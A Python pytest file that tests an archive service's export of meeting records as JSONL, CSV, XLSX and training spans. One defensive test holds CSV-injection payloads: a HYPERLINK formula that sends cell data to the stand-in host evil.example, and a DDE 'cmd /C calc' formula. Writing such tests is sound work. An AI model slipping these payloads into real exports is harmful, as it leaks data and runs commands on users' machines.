"""Export: the current records as JSONL and CSV, and spans as training data, checked against the stored records."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

import service.export
from service.export import export
from tests.service.conftest import SAMPLE, bearer, upload, wait_for_job

SHORT = "Заседание комиссии открыл председатель И.И. Петров в Оше. Выступил министр А.Б. Сидоров.\n".encode()


def _archive(client: TestClient, tokens: dict[str, str]) -> dict[str, dict[str, Any]]:
    """Two extracted documents and one not extracted yet; one record corrected. Details by document id."""
    items = upload(client, tokens["archivist"], (SAMPLE.name, SAMPLE.read_bytes()), ("short.txt", SHORT)).json()
    for item in items["data"]:
        assert wait_for_job(client, tokens["researcher"], item["job_id"])["state"] == "done"
    first = items["data"][0]["document_id"]
    edit = {"op": "edit_person", "person": "p1", "set": {"position": "министр, запятая; «кавычки»", "spoke": False}}
    body = {"base_version": 1, "operations": [edit, {"op": "drop", "entity": "person", "ref": "p4"}]}
    patched = client.patch(f"/v1/documents/{first}/record", headers=bearer(tokens["archivist"]), json=body)
    assert patched.status_code == 200, patched.text
    return {
        item["document_id"]: client.get(
            f"/v1/documents/{item['document_id']}", headers=bearer(tokens["researcher"])
        ).json()
        for item in items["data"]
    }


def _get(client: TestClient, token: str, **params: Any) -> Any:
    return client.get("/v1/export", headers=bearer(token), params=params)


def test_jsonl_is_the_current_records(client: TestClient, tokens: dict[str, str]) -> None:
    documents = _archive(client, tokens)
    response = _get(client, tokens["researcher"])
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/x-ndjson"
    assert "kenesh-export.jsonl" in response.headers["content-disposition"]
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert {line["document_id"] for line in lines} == set(documents)
    for line in lines:
        document = documents[line["document_id"]]
        assert line["record"] == document["record"]
        assert (line["filename"], line["record_version"], line["record_kind"]) == (
            document["filename"],
            document["record_version"],
            document["record_kind"],
        )
    assert sorted(line["record_version"] for line in lines) == [1, 2]


def test_csv_rows_per_person_and_per_mention(client: TestClient, tokens: dict[str, str]) -> None:
    documents = _archive(client, tokens)
    response = _get(client, tokens["archivist"], format="csv")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    expected = [
        (document_id, person) for document_id, document in documents.items() for person in document["record"]["persons"]
    ]
    assert len(rows) == len(expected)
    by_key = {(row["document_id"], row["person_id"]): row for row in rows}
    for document_id, person in expected:
        row = by_key[document_id, person["id"]]
        meeting = documents[document_id]["record"]["meeting"]
        assert row["filename"] == documents[document_id]["filename"]
        assert (row["meeting_date"], row["meeting_title"]) == (meeting["date"] or "", meeting["title"] or "")
        for field in ("name", "surname", "position", "organization", "role"):
            assert row[field] == (person[field] or ""), field
        assert row["spoke"] == str(person["spoke"]).lower()
        assert int(row["mentions"]) == len(person["mentions"])
    assert "министр, запятая; «кавычки»" in {row["position"] for row in rows}

    mentions = list(csv.DictReader(io.StringIO(_get(client, tokens["researcher"], format="csv", rows="mention").text)))
    assert len(mentions) == sum(len(person["mentions"]) for _, person in expected)
    for row in mentions:
        text = documents[row["document_id"]]["text"]
        assert text[int(row["mention_start"]) : int(row["mention_end"])] == row["mention_text"]


def test_spans_for_training(client: TestClient, tokens: dict[str, str]) -> None:
    documents = _archive(client, tokens)
    response = _get(client, tokens["researcher"], spans="true")
    assert response.status_code == 200, response.text
    assert "kenesh-export.spans.jsonl" in response.headers["content-disposition"]
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert {line["document_id"] for line in lines} == set(documents)
    for line in lines:
        record = documents[line["document_id"]]["record"]
        assert line["text"] == documents[line["document_id"]]["text"]
        for span in line["spans"]:
            assert line["text"][span["start"] : span["end"]] == span["text"]
        labels = {"PER": "persons", "ORG": "organizations", "LOC": "locations", "ISSUE": "issues"}
        for label, field in labels.items():
            expected = {(m["start"], m["end"]) for item in record[field] for m in item["mentions"]}
            assert {(s["start"], s["end"]) for s in line["spans"] if s["label"] == label} == expected
        assert line["spans"] == sorted(line["spans"], key=lambda span: (span["start"], -span["end"], span["label"]))


def test_selected_documents_and_bad_requests(
    client: TestClient, tokens: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    documents = _archive(client, tokens)
    chosen = next(iter(documents))
    response = _get(client, tokens["researcher"], document_id=[chosen, str(uuid.uuid4())])
    assert [json.loads(line)["document_id"] for line in response.text.splitlines()] == [chosen]
    assert _get(client, tokens["researcher"], format="csv", spans="true").status_code == 422
    assert _get(client, tokens["researcher"], format="xml").status_code == 422
    assert _get(client, tokens["researcher"], rows="page", format="csv").status_code == 422
    assert client.get("/v1/export").status_code == 401

    # The function the research endpoints call with a query's documents, in batches of any size.
    factory = client.app.state.session_factory  # type: ignore[attr-defined]
    ids = sorted(uuid.UUID(document_id) for document_id in documents)  # in id order, as the whole archive
    everything = "".join(export(factory, "jsonl"))
    assert "".join(export(factory, "jsonl", document_ids=ids)) == everything
    assert "".join(export(factory, "jsonl", document_ids=[])) == ""
    monkeypatch.setattr(service.export, "BATCH", 1)  # every page boundary, with and without ids
    assert "".join(export(factory, "jsonl")) == everything
    assert "".join(export(factory, "jsonl", document_ids=ids)) == everything
    header = "".join(export(factory, "csv", document_ids=[]))
    assert header.startswith("document_id,filename,record_version,meeting_date,meeting_title")


def test_empty_archive(client: TestClient, tokens: dict[str, str]) -> None:
    assert _get(client, tokens["researcher"]).text == ""
    assert len(_get(client, tokens["researcher"], format="csv").text.splitlines()) == 1


def test_csv_cells_are_never_spreadsheet_formulas(client: TestClient, tokens: dict[str, str]) -> None:
    """OWASP "CSV injection": a cell a spreadsheet would run (=, +, -, @, tab, CR first) starts with `'`."""
    name = "=HYPERLINK(CONCAT(http://evil.example/?;A1);открыть).txt"
    stored = upload(client, tokens["archivist"], (name, SHORT)).json()["data"][0]
    assert wait_for_job(client, tokens["archivist"], stored["job_id"])["state"] == "done"
    document_id = stored["document_id"]
    assert client.get(f"/v1/documents/{document_id}", headers=bearer(tokens["archivist"])).json()["filename"] == name
    hostile = {"position": "@SUM(1+1)*cmd|' /C calc'!A0", "organization": "+7 (312) 62-00-00", "name": "\t-2+3"}
    edit = {"op": "edit_person", "person": "p1", "set": hostile}
    body = {"base_version": 1, "operations": [edit]}
    patched = client.patch(f"/v1/documents/{document_id}/record", headers=bearer(tokens["archivist"]), json=body)
    assert patched.status_code == 200, patched.text

    for rows in ("person", "mention"):
        text = _get(client, tokens["researcher"], format="csv", rows=rows).text
        table = list(csv.DictReader(io.StringIO(text)))
        assert table and all(row["filename"] == "'" + name for row in table)
        edited = [row for row in table if row["person_id"] == "p1"]
        assert edited
        for row in edited:
            for field, value in hostile.items():
                assert row[field] == "'" + value, (field, row[field])
        for row in table:  # no other cell starts a formula either; numbers and year-less dates stay as they are
            formulas = [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
            assert all(re.fullmatch(r"--\d\d-\d\d", cell) for cell in formulas), formulas
            assert int(row["record_version"]) == 2
    # In a workbook the same values are text cells, never formulas (openpyxl makes any "=…" string a formula).
    workbook = openpyxl.load_workbook(io.BytesIO(_get(client, tokens["researcher"], format="xlsx").content))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert name in [cell.value for cell in cells]
    assert all(cell.data_type != "f" for cell in cells), [cell.value for cell in cells if cell.data_type == "f"]
    # JSONL is data for programs, not a spreadsheet: it keeps the values as they are.
    line = json.loads(_get(client, tokens["researcher"]).text.splitlines()[0])
    assert line["filename"] == name


def test_a_search_exports_every_result_not_a_page(client: TestClient, tokens: dict[str, str]) -> None:
    documents = _archive(client, tokens)
    reader = bearer(tokens["researcher"])
    first_page = client.get("/v1/search", headers=reader, params={"q": "заседание", "limit": 1}).json()
    assert first_page["count"] == len(documents) and len(first_page["data"]) == 1  # a page of one, two found
    ranked = [
        hit["document_id"] for hit in client.get("/v1/search", headers=reader, params={"q": "заседание"}).json()["data"]
    ]

    lines = [json.loads(line) for line in _get(client, tokens["researcher"], q="заседание").text.splitlines()]
    assert [line["document_id"] for line in lines] == ranked  # every result, best first
    table = list(csv.DictReader(io.StringIO(_get(client, tokens["researcher"], format="csv", q="заседания").text)))
    assert [row["document_id"] for row in table] == [
        document_id for document_id in ranked for _ in documents[document_id]["record"]["persons"]
    ]
    workbook = openpyxl.load_workbook(
        io.BytesIO(_get(client, tokens["researcher"], format="xlsx", q="заседание").content)
    )
    column = [cell.value for cell in next(workbook.active.iter_cols(min_row=2, max_col=1))]
    assert column == [row["document_id"] for row in table]

    # Only the short text names Сидоров; the search's filters narrow the export as they narrow the search.
    short = [
        json.loads(line)["document_id"] for line in _get(client, tokens["researcher"], q="Сидорова").text.splitlines()
    ]
    assert len(short) == 1 and documents[short[0]]["filename"] == "short.txt"
    assert _get(client, tokens["researcher"], q="заседание", **{"from": "2999-01-01"}).text == ""
    both = _get(client, tokens["researcher"], q="заседание", document_id=short)
    assert [json.loads(line)["document_id"] for line in both.text.splitlines()] == short

    assert _get(client, tokens["researcher"], topic="migration").status_code == 422  # a filter needs the search
    assert _get(client, tokens["researcher"], q="«»").status_code == 422  # no words
